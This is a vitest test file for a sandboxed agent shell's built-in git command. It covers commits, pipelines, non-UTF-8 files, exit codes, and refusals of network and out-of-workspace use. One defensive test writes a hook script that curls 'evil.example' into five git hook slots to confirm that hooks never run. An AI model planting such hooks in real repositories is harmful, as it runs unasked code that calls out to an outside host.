/** `git` as a command of the shell. */
import { describe, expect, it } from 'vitest';
import type { NetworkPort } from '#workers/contracts/ports/network-port.ts';
import { ToolError } from '#workers/contracts/tool-error.ts';
import { openShell } from '#tests/fixtures/worlds/shell-world.ts';

const git = {
  mayPush: async () => true,
  author: async () => ({ name: 'Ada Example', email: 'ada@example.com' }),
};

describe('git in the shell', () => {
  it('makes a repository, commits and shows it, in a pipeline', async () => {
    const { raw } = await openShell({ 'app/a.txt': 'one\n' }, { git });
    const made = await raw(
      'cd app && git init -q && git add . && git commit -q -m "first one" && git log --oneline | head -1',
    );
    expect(made).toMatchObject({ exitCode: 0, stdout: expect.stringMatching(/^[0-9a-f]{7} .*first one\n$/) });
    expect((await raw('git log --format="%an <%ae>" | cat')).stdout).toBe('Ada Example <ada@example.com>\n');
    expect(
      (await raw('mkdir sub; cd sub; git rev-parse --show-prefix; git -C .. status -s | wc -l')).stdout,
    ).toBe('sub/\n0\n');
  });

  it('lets the config of a repository name the author', async () => {
    const { raw } = await openShell({ 'a.txt': 'one\n' }, { git });
    await raw('git init; git config user.name Bo; git add .; git commit -m x');
    expect((await raw('git log --format="%an <%ae>"')).stdout).toBe('Bo <ada@example.com>\n');
  });

  it('reads the message of a commit from its input', async () => {
    const { raw } = await openShell({ 'a.txt': 'one\n' }, { git });
    const { stdout } = await raw(
      'git init -q; git add .; printf "subject ü\\n\\nbody\\n" | git commit -q -F -; git log --format=%B',
    );
    expect(stdout).toContain('subject ü\n\nbody\n');
  });

  it('shows and compares files that are not UTF-8 byte by byte', async () => {
    const latin1 = new Blob([Uint8Array.from([0x63, 0x61, 0x66, 0xe9, 0x0a])]);
    const { raw } = await openShell({ 'a.txt': latin1 }, { git });
    const { stdout } = await raw(
      'git init -q; git add .; git commit -qm x; git show HEAD:a.txt > b; cmp a.txt b && echo same; echo x > a.txt; git diff | grep -a "^-c" | od -An -tx1',
    );
    expect(stdout).toBe('same\n 2d 63 61 66 e9 0a\n');
  });

  it('sees what the shell wrote, and the shell sees what git wrote', async () => {
    const { raw } = await openShell({}, { git });
    const { stdout, exitCode } = await raw(`
      git init -q && echo one > a.txt && git add a.txt && git commit -qm one
      test -d .git && ls
      git checkout -q -b side && echo two > b.txt && git add b.txt && git commit -qm two
      ls; git checkout -q main; ls; test -e b.txt || echo gone`);
    expect(stdout).toBe('a.txt\na.txt\nb.txt\na.txt\ngone\n');
    expect(exitCode).toBe(0);
  });

  it('ends with the exit code of git, and its words on stderr', async () => {
    const { raw } = await openShell({ 'a.txt': 'one\n' }, { git });
    expect(await raw('git status')).toMatchObject({
      exitCode: 128,
      stderr: expect.stringContaining('not a git repository'),
    });
    expect((await raw('git nonsense 2>/dev/null || echo "failed: $?"')).stdout).toBe('failed: 1\n');
    expect(
      (await raw('git init -q; git diff --quiet; echo $?; git rev-parse nope 2>&1 | grep -c fatal')).stdout,
    ).toBe('0\n1\n');
    expect((await raw('(cd /tmp && git init)')).stderr).toContain('outside /workspace');
    expect((await raw('git clone https://example.com/a.git')).stderr).toContain('may not use the network');
  });

  it('runs no hook of a repository, so nothing is sent', async () => {
    const asked: string[] = [];
    const network: NetworkPort = {
      request: async ({ url }) => {
        asked.push(url);
        throw new ToolError('network_error', 'No server.');
      },
    };
    const hook = '#!/bin/sh\ncurl http://evil.example/ran\nexit 1\n';
    const { raw } = await openShell({ 'a.txt': 'one\n' }, { git, network });
    await raw('git init -q; mkdir -p .git/hooks');
    for (const name of ['pre-commit', 'commit-msg', 'post-commit', 'post-checkout', 'pre-push'])
      await raw('cat > ".git/hooks/$NAME" <<< "$HOOK"; chmod +x ".git/hooks/$NAME"', {
        env: { NAME: name, HOOK: hook },
      });
    expect((await raw('ls .git/hooks | wc -l; cat .git/hooks/pre-push')).stdout).toMatch(/^5\n#!/);
    expect(await raw('git add . && git commit -qm x && git checkout -q -b side')).toMatchObject({
      exitCode: 0,
    });
    expect(asked).toEqual([]);
    expect((await raw('git push https://git.example/a.git side')).exitCode).toBe(128);
    expect(asked.every((url) => url.startsWith('https://git.example/'))).toBe(true);
  });

  it('is refused with a sentence where the agent may not use git', async () => {
    const { raw } = await openShell();
    expect(await raw('git status')).toMatchObject({ exitCode: 1, stderr: expect.stringContaining('"Git"') });
  });
});
